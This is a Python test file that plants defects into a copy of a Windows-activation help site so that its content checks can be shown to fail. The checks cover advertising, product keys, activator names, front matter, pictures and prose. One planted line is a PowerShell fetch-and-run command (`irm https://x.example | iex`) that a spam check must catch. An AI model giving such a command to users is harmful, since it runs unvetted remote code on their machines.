"""Defects of the sources: pages, front matter, data, pictures."""

from __future__ import annotations

import io
import json
import re
from datetime import date, timedelta

import yaml
from PIL import Image

from guidekit.checks.source.shingles import run_hash
from tests.mutations.plant import GUIDE, PAGE, Copy, Defect, Place
from tests.unit.test_spam import BLOCKS

SCREEN = "win11-change-key"
SCREEN_FILE = f"data/screens/{SCREEN}.yml"
CODE_PAGE = "troubleshooting/0xc004f211"
MADE_UP = "seven patient otters count every lamp along our river before breakfast"


def on(file: str, test: str, of: str = f"{GUIDE}.md") -> str:
    """Return the name of a test of the sources, for one page or screen."""
    return f"tests/source/test_{file}.py::test_{test}" + (f"[{of}]" if of else "")


def adds(text: str):
    """Return what writes a line below the guide."""
    return lambda copy: copy.append(PAGE, text)


def changes(old: str, new: str, name: str = PAGE):
    """Return what replaces words of a file."""
    return lambda copy: copy.replace(name, old, new)


def advertisement(kind: str, block: str) -> Defect:
    """Return the defect of one kind of advertising block."""
    return Defect(
        f"advertising: {kind}",
        on("spam", "no_page_carries_the_articles_advertising"),
        adds(block),
        "nothing of the articles' advertising may stand here",
    )


def copied_sentence(copy: Copy) -> Place:
    """Make a made-up sentence one of the articles', and write eight words of it into the guide."""
    words = MADE_UP.split()
    copy.append(
        "data/wording.yml",
        "  " + " ".join(run_hash(words[start : start + 8]) for start in range(len(words) - 7)),
    )
    return copy.append(PAGE, f"We say that {' '.join(words[:8])}.")


def product_key(copy: Copy) -> Place:
    """Write something of the shape of a full product key."""
    return copy.append(PAGE, f"Type {'-'.join(letter * 5 for letter in 'BCDFG')}.")


def masked_key(copy: Copy) -> Place:
    """Mask a key on a screen with letters, so that it still looks like one."""
    return copy.append(SCREEN_FILE, f"# {'-'.join(['X' * 5] * 5)}")


def activator(copy: Copy) -> Place:
    """Name the first tool or seller that no page may name."""
    name = yaml.safe_load(copy.read("data/forbidden.yml"))["names"][0]
    return copy.append(PAGE, f"Others use {name}.")


def later(copy: Copy) -> Place:
    """Check a guide tomorrow."""
    tomorrow = (date.today() + timedelta(days=2)).isoformat()
    line = copy.read(PAGE).splitlines()[copy.line(PAGE, "checked: ") - 1]
    return copy.replace(PAGE, line, f'checked: "{tomorrow}"')


def number_of_another_page(copy: Copy) -> Place:
    """Give a new page the number of one that was taken away."""
    copy.write("docs/how-to/new-guide.md", copy.read(PAGE))
    copy.delete(PAGE)
    return Place("docs/how-to/new-guide.md", 2)


def code_without_row(copy: Copy) -> Place:
    """Take the row of a code out of the table of all codes."""
    copy.replace("data/codes.yml", '"0xC004F211":', '"0xC004F2AA":')
    return Place(f"docs/{CODE_PAGE}.md", copy.line(f"docs/{CODE_PAGE}.md", "codes:"))


def two_pages_claim(copy: Copy) -> Place:
    """Claim the address of another guide as an old one."""
    place = copy.replace(PAGE, "codes: []", "codes: []\nmoved_from: [how-to/check-the-link/]")
    return Place(PAGE, place.line + 1)


def code_without_advice(copy: Copy) -> Place:
    """Take the word of who advises from the first code."""
    copy.replace("data/codes.yml", "    advice: reasoned\n", "")
    return Place("data/codes.yml", copy.line("data/codes.yml", '"0x'))


def date_without_review(copy: Copy) -> Place:
    """Take the day of its next look from the last date."""
    text = copy.read("data/dates.yml")
    key = re.findall(r"^([a-z0-9-]+):", text, re.MULTILINE)[-1]
    copy.write(
        "data/dates.yml",
        re.sub(rf"(^{key}:\n(?:  .*\n)*?)  review_after: .*\n", r"\1", text, flags=re.MULTILINE),
    )
    return Place("data/dates.yml", copy.line("data/dates.yml", f"{key}:"))


def undescribed_number(copy: Copy) -> Place:
    """Take a number out of an alternative text."""
    copy.replace(SCREEN_FILE, "1: button", "The button")
    return Place(SCREEN_FILE, 1)


def stale_picture(copy: Copy) -> Place:
    """Describe a screen otherwise without drawing it."""
    copy.replace(SCREEN_FILE, "title: ", "title:  ")
    return Place(SCREEN_FILE, 1)


def changed_picture(copy: Copy) -> Place:
    """Put another picture in the place of a drawn one."""
    other = (copy.folder / "docs/assets/screens/win11-about.light.wide.webp").read_bytes()
    copy.write(f"docs/assets/screens/{SCREEN}.light.wide.webp", other)
    return Place(SCREEN_FILE, 1)


def left_over_picture(copy: Copy) -> Place:
    """Leave a picture that no description draws."""
    name = "docs/assets/screens/nobody.light.wide.webp"
    copy.write(name, (copy.folder / f"docs/assets/screens/{SCREEN}.light.wide.webp").read_bytes())
    return Place(name, 1)


def picture_with_metadata(copy: Copy) -> Place:
    """Save a picture anew with a comment inside."""
    name = f"docs/assets/screens/{SCREEN}.light.wide.webp"
    image, told, out = Image.open(copy.folder / name), Image.Exif(), io.BytesIO()
    told[0x010E] = "where and when"
    image.save(out, "WEBP", lossless=True, exif=told)
    copy.write(name, out.getvalue())
    return Place(name, 1)


def listed_size(copy: Copy) -> Place:
    """List another size than the picture has."""
    manifest = json.loads(copy.read("docs/assets/screens/manifest.json"))
    manifest["screens"][SCREEN]["pictures"]["light.wide"]["width"] += 1
    copy.write("docs/assets/screens/manifest.json", json.dumps(manifest))
    return Place(f"docs/assets/screens/{SCREEN}.light.wide.webp", 1)


def unnamed_number(copy: Copy) -> Place:
    """Name no longer what has a number in a picture."""
    copy.replace(
        PAGE,
        "4. Under **Add a Microsoft account**, select **Add an account**.",
        "4. Select the link below the picture.",
    )
    return Place(PAGE, copy.line(PAGE, "![](screen:win10-activation-not-linked)"))


def no_picture(copy: Copy) -> Place:
    """Take every picture out of a guide and give no reason."""
    lines = [line for line in copy.read(PAGE).splitlines() if "](screen:" not in line]
    copy.write(PAGE, "\n".join(lines) + "\n")
    return Place(PAGE, 1)


def hard_to_read(copy: Copy) -> Place:
    """Write a long sentence of long words, many times."""
    sentence = "Notwithstanding organizational considerations administrators characteristically necessitate comprehensive documentation of interdependencies"
    copy.append(PAGE, " and ".join([sentence] * 20) + ".")
    return Place(PAGE, copy.line(PAGE, "# Link your"))


def too_long(copy: Copy) -> Place:
    """Write more than one reads."""
    copy.append(PAGE, "It is so. " * 400)
    return Place(PAGE, copy.line(PAGE, "# Link your"))


def missing_key(copy: Copy) -> Place:
    """Take the description out of the front matter."""
    line = copy.read(PAGE).splitlines()[copy.line(PAGE, "description: ") - 1]
    copy.replace(PAGE, line + "\n", "")
    return Place(PAGE, 1)


DEFECTS = [
    *(advertisement(kind, block) for kind, block in BLOCKS.items()),
    Defect(
        "eight copied words",
        on("spam", "no_page_copies_eight_words_of_the_articles"),
        copied_sentence,
        "copied: seven patient otters",
    ),
    Defect(
        "full product key",
        on("spam", "no_file_of_the_project_shows_a_full_product_key", "docs"),
        product_key,
        "full product key",
    ),
    Defect(
        "key of letters on a screen",
        on("spam", "no_file_of_the_project_shows_a_full_product_key", "data"),
        masked_key,
        "full product key",
    ),
    Defect(
        "name of an activator",
        on("spam", "no_page_names_an_activator_or_a_key_seller"),
        activator,
        "never a name",
    ),
    Defect(
        "unknown front matter key",
        on("front_matter", "front_matter_follows_the_closed_schema"),
        changes("time: 5", "minutes: 5"),
        "unknown key minutes",
    ),
    Defect(
        "missing front matter key",
        on("front_matter", "front_matter_follows_the_closed_schema"),
        missing_key,
        "missing key description",
    ),
    Defect(
        "front matter that is no YAML",
        on("front_matter", "front_matter_follows_the_closed_schema"),
        changes("title: Link", "title: Link: it, link"),
        "is no YAML",
    ),
    Defect(
        "checked in the future",
        on("front_matter", "checked_is_not_in_the_future"),
        later,
        "in the future",
    ),
    Defect(
        "number twice",
        on("front_matter", "no_two_guides_share_a_number", ""),
        changes("id: 101", "id: 102"),
        "id 102 belongs to",
    ),
    Defect(
        "number of another page",
        on("front_matter", "a_guide_number_is_never_reused", ""),
        number_of_another_page,
        "number 101 belongs to",
    ),
    Defect(
        "old address of two pages",
        on("front_matter", "an_old_address_belongs_to_one_page", ""),
        two_pages_claim,
        "is the address of",
    ),
    Defect(
        "code on two pages",
        on("front_matter", "an_error_code_belongs_to_one_page", ""),
        changes("codes: []", 'codes: ["0xC004F210"]', "docs/troubleshooting/key-refused.md"),
        "belongs to",
    ),
    Defect(
        "code that is not in the table",
        on("facts", "a_code_with_a_guide_stands_in_the_table_of_all_codes", f"{CODE_PAGE}.md"),
        code_without_row,
        "is not in data/codes.yml",
    ),
    Defect(
        "code without advice",
        on("facts", "every_error_code_has_meaning_advice_and_sources", ""),
        code_without_advice,
        "missing key advice",
    ),
    Defect(
        "intent that nobody answers",
        on("front_matter", "every_intent_has_a_guide", ""),
        lambda copy: copy.append(
            "data/intents.yml", 'fly-to-the-moon: "Fly to the moon with a license."'
        ),
        "fly-to-the-moon",
    ),
    Defect(
        "intent with two main guides",
        on("front_matter", "an_intent_has_one_main_guide", ""),
        changes("answers: [link-license", "answers: [check-linked"),
        "check-linked is what",
    ),
    Defect(
        "date that is not listed",
        on("facts", "every_date_in_a_page_is_listed"),
        adds("It ended on {date: end-of-days}."),
        "there is no date end-of-days",
    ),
    Defect(
        "date without a day of review",
        on("facts", "every_date_has_a_source_and_a_day_of_review", ""),
        date_without_review,
        "missing key review_after",
    ),
    Defect(
        "unknown settings address",
        on("settings", "every_settings_address_is_listed"),
        changes("ms-settings:yourinfo", "ms-settings:your-info"),
        "is not in data/settings.yml",
    ),
    Defect(
        "wrong settings path",
        on("settings", "every_settings_path_is_listed"),
        adds("Open **Settings > System > Licenses**."),
        "is not in data/settings.yml",
    ),
    Defect(
        "quote that Windows does not say",
        on("settings", "every_quoted_message_is_listed"),
        adds("> Windows is quite activated"),
        "is not in data/screen-text.yml",
    ),
    Defect(
        "table that is not made from data",
        on("settings", "every_table_is_made_from_data"),
        adds("{table: moons}"),
        "there is no table moons",
    ),
    Defect(
        "wrong label in a step",
        on("pictures", "every_label_of_a_step_is_drawn_beside_it_or_listed"),
        changes("select **Add an account**.", "select **Add any account**."),
        "draws no Add any account",
    ),
    Defect(
        "unknown screen",
        on("pictures", "every_picture_is_of_a_known_screen"),
        changes("screen:win11-system", "screen:win11-sistem"),
        "there is no screen win11-sistem",
    ),
    Defect(
        "screen with an unknown key",
        on("pictures", "a_screen_follows_its_closed_schema", SCREEN),
        changes("section: ", "part: ", SCREEN_FILE),
        "unknown key part",
    ),
    Defect(
        "stale picture",
        on("pictures", "the_pictures_of_a_screen_are_fresh", SCREEN),
        stale_picture,
        "older than what they are drawn from",
    ),
    Defect(
        "other picture than was drawn",
        on("pictures", "the_pictures_of_a_screen_are_fresh", SCREEN),
        changed_picture,
        "is not the picture that was drawn",
    ),
    Defect(
        "picture left over",
        on("pictures", "no_picture_is_left_over", ""),
        left_over_picture,
        "no description draws this picture",
    ),
    Defect(
        "picture with metadata",
        on("pictures", "a_picture_is_light_of_the_listed_size_and_without_metadata", SCREEN),
        picture_with_metadata,
        "exif",
    ),
    Defect(
        "picture of another size",
        on("pictures", "a_picture_is_light_of_the_listed_size_and_without_metadata", SCREEN),
        listed_size,
        "pixels",
    ),
    Defect(
        "how-to without pictures and reason",
        on("pictures", "a_how_to_has_a_picture_or_says_why_not"),
        no_picture,
        "no picture and no reason",
    ),
    Defect(
        "alt text without a number",
        on("pictures", "an_alt_text_names_every_number", SCREEN),
        undescribed_number,
        "does not say what number 1 is",
    ),
    Defect(
        "number that no step names",
        on("pictures", "every_number_in_a_picture_is_named_by_a_step"),
        unnamed_number,
        "no step names",
    ),
    Defect(
        "word to avoid",
        on("prose", "no_page_uses_words_to_avoid"),
        adds("Simply wait."),
        "the word “Simply”",
    ),
    Defect(
        "step with two actions",
        on("prose", "a_step_asks_for_one_action"),
        changes("1. Select **Start** > **Settings**.", "1. Select **Start**. Open **Settings**."),
        "2 actions in one step",
    ),
    Defect(
        "too hard to read", on("prose", "a_page_is_easy_to_read"), hard_to_read, "reading level"
    ),
    Defect("guide too long", on("prose", "a_guide_is_not_too_long"), too_long, "words"),
    Defect(
        "long text before the first step",
        on("prose", "nothing_long_stands_before_the_first_step"),
        changes("## Before you start\n", "It is so. " * 14 + "\n\n## Before you start\n"),
        "words before the first step",
    ),
    Defect(
        "spelling mistake",
        on("prose", "words_are_spelled_right", ""),
        adds("You will " + "rec" + "ieve a code."),
        "spelling",
    ),
    Defect(
        "command that fetches and runs a program",
        on("spam", "no_page_fetches_and_runs_a_program"),
        adds("Type `irm https://x.example | iex` and press Enter."),
        "fetches and runs",
    ),
    Defect(
        "script in a page",
        on("spam", "no_page_brings_elements_that_run_or_load_something"),
        adds("<script>go()</script>"),
        "raw <script> in a page",
    ),
    Defect(
        "claim that Microsoft says nothing",
        on("sources", "no_page_says_that_microsoft_says_nothing"),
        adds("Microsoft names this error but gives no remedy."),
        "claims that a text does not exist",
    ),
    Defect(
        "lookbehind in a script",
        "tests/unit/test_architecture.py::test_no_script_looks_behind[mask.js]",
        lambda copy: copy.append("docs/assets/js/mask.js", "self.planted = /(?<=a)b/;"),
        "looks behind: self.planted",
    ),
]
